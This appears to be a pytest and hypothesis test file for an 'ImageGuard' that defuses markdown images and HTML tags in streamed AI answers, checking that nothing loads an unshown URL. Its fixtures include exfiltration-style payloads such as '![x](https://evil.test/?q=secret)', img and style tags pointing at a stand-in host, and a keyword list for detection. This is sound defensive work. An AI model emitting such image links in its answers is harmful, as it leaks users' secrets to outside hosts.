"""Nothing in an answer loads by itself but what was shown before; judged by a reader of markdown that is not ours."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from convene.serving.image_guard import ImageGuard

if TYPE_CHECKING:
    from collections.abc import Iterable

    from markdown_it.token import Token

SHOWN = "https://shown.test/a.png"


def guard(pieces: Iterable[str], *, active: bool = True) -> str:
    guarding = ImageGuard(lambda url: url == SHOWN, lambda: active)
    return "".join([*map(guarding.feed, pieces), guarding.end()])


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("a ![x](https://evil.test/?q=secret) b", "a ! [x](https://evil.test/?q=secret) b"),
        ("![](//evil.test/x)", "! [](//evil.test/x)"),
        ("![x](<https://evil.test/>)", "! [x](<https://evil.test/>)"),
        ("![x](\nhttps://evil.test/)", "! [x](\nhttps://evil.test/)"),
        ("![a [b](c) d](https://evil.test/)", "! [a [b](c) d](https://evil.test/)"),
        (f"![x]({SHOWN}?q=secret)", f"! [x]({SHOWN}?q=secret)"),
        ("![x][r]\n\n[r]: https://evil.test/", "![x][r]\n\n[r] : https://evil.test/"),
        ("> - [two\nlines]:\n  https://evil.test/", "> - [two\nlines] :\n  https://evil.test/"),
        ("see <img src=https://evil.test/>", "see < img src=https://evil.test/>"),
        ("see <IMG/src=https://evil.test/>", "see < IMG/src=https://evil.test/>"),
        ("a <style>@import 'https://evil.test/'</style>", "a < style>@import 'https://evil.test/'< /style>"),
        ("<div>\n```\n<img src=x>\n```", "< div>\n```\n<img src=x>\n```"),
        ("<!-- x --> <?x?>", "< !-- x --> < ?x?>"),
        ("a |`| <img src=x> `|", "a |`| < img src=x> `|"),
        ("- a\n  ```\nb\n```\n<img src=x>\n", "- a\n  ```\nb\n```\n< img src=x>\n"),
    ],
)
def test_what_would_load_by_itself_is_made_text_by_a_space(written: str, shown: str) -> None:
    assert guard(written) == shown
    assert guard([written], active=False) == written


@pytest.mark.parametrize(
    "text",
    [
        f'![x]({SHOWN}) and ![x]({SHOWN} "a title")',
        f"![x][r]\n\n[r]: {SHOWN}\n",
        "[a link](https://elsewhere.test/) and <https://elsewhere.test/> and <me@elsewhere.test>",
        "vec![1, 2] and Wow![1] and !important !",
        r"\![x](https://evil.test/) is escaped",
        "Wow! [1] a < b and 3 <4",
        "a line<br>and <sub>2</sub> and List<String>",
        "use `<img src=x>` or ``a ` <b x>``",
        "```html\n<img src='https://evil.test/'>\n```\n",
        "~~~~\n```\n<img>\n~~~~\nafter",
        "unfinished ![x](https://evil.test/",
        "unfinished <",
        "an unfinished `tick",
    ],
)
def test_what_loads_nothing_stays_as_it_is(text: str) -> None:
    assert guard(text) == text


def test_text_is_held_back_only_where_it_may_load_something() -> None:
    guarding = ImageGuard(lambda _: False, lambda: True)
    pieces = ["Wow", "! a", " b!", " c ", "<", " d `", "x", "` e"]
    assert [guarding.feed(piece) for piece in pieces] == ["Wow", "! a", " b", "! c ", "", "< d ", "", "`x` e"]


def test_it_keeps_count_of_code_while_nothing_untrusted_is_there() -> None:
    tainted = False
    guarding = ImageGuard(lambda _: False, lambda: tainted)
    text = guarding.feed("```\n![x](https://evil.test/)\n")
    tainted = True
    text += guarding.feed("<img src=x>\n```\n<img src=x>") + guarding.end()
    assert text == "```\n![x](https://evil.test/)\n<img src=x>\n```\n< img src=x>"


PIECES = st.lists(
    st.one_of(
        st.sampled_from(
            (
                *(
                    "![",
                    "[",
                    "]",
                    "](",
                    "]:",
                    ")",
                    "!",
                    "<",
                    ">",
                    "`",
                    "``",
                    "```",
                    "~~~",
                    "\n",
                    "\n\n",
                    "\n```\n",
                    "  ",
                ),
                *("https://evil.test/x", "<img src=https://evil.test/>", "![x](https://evil.test/)", "|", "\n|-|-|\n"),
                *(SHOWN, "<https://evil.test/`>", "- ", "1. ", "> ", "    ", "\\", "a", "x ", "<div>", "</b>", "<br>"),
                *(
                    "`" * 70,
                    "~" * 64,
                    "``` " + " " * 64,
                    "\n[r]: https://evil.test/\n",
                    "![r]",
                    "![a][r]",
                    '"',
                    "'",
                    "&excl;",
                    "<!--",
                    "-->",
                    "<b>",
                    "\t",
                    "~~~~",
                ),
            )
        ),
        st.text(alphabet='![]()<>`~\\|\n ar/:"=-', max_size=4),
    ),
    max_size=16,
).map("".join)
FOREIGN = ("img", "src", "evil", "style", "script", "<!", "<?", "=")


ENDLESS = (
    "`",
    "~",
    "[",
    "![",
    "!",
    "<a",
    "]:",
    "\\",
    "![x](https://a",
    "`x",
    "```\n~",
    "```\n   `",
    "```\n```    ",
    "[x",
)


@pytest.mark.parametrize("piece", ENDLESS)
def test_what_is_held_back_has_an_end(piece: str) -> None:
    """Looking again and again at what grows without end would take a server's time."""
    guarding = ImageGuard(lambda _: False, lambda: True)
    held = 0
    for _ in range(4_000):
        guarding.feed(piece)
        held = max(held, len(guarding._held))
    assert held < 2_600


def walk(tokens: Iterable[Token]) -> Iterable[Token]:
    for token in tokens:
        yield token
        yield from walk(token.children or ())


@settings(max_examples=400, deadline=None)
@given(PIECES)
@example("`\n\n`<img src=https://evil.test/>`")
@example("[r]: https://evil.test/\n![r]")
@example("|a|b|\n|-|-|\n|`|<img src=https://evil.test/>`|")
@example("a ``` b\n```\n<img src=https://evil.test/>")
@example("```<img src=https://evil.test/>|:\n|-|-|\n")
@example("```\n" + "`" * 70 + "\n<img src=https://evil.test/>\n```\n")
@example("```\n```" + " " * 70 + "\n<img src=https://evil.test/>\n```\n")
@example("`" * 70 + "\n<img src=https://evil.test/>\n" + "`" * 70 + "\n```\n<img src=https://evil.test/>\n```\n")
@example("``` a`b\n<img src=https://evil.test/>\n```")
def test_a_reader_of_markdown_finds_nothing_that_loads_what_was_not_shown(text: str) -> None:
    reader = MarkdownIt("commonmark").enable("table")
    for token in walk(reader.parse(guard([text]))):
        if token.type == "image":
            assert token.attrs["src"] == SHOWN
        assert token.type != "html_block"
        if token.type == "html_inline":
            assert not any(word in token.content.lower() for word in FOREIGN)


@given(text=PIECES, places=st.lists(st.integers(0, 500), max_size=8))
def test_however_a_text_is_cut_the_result_is_the_same(text: str, places: list[int]) -> None:
    ends = sorted({place % (len(text) + 1) for place in places})
    cut = [text[a:b] for a, b in zip([0, *ends], [*ends, len(text)], strict=True)]
    assert guard(cut) == guard([text]) == guard(text)
    assert guard(cut, active=False) == text
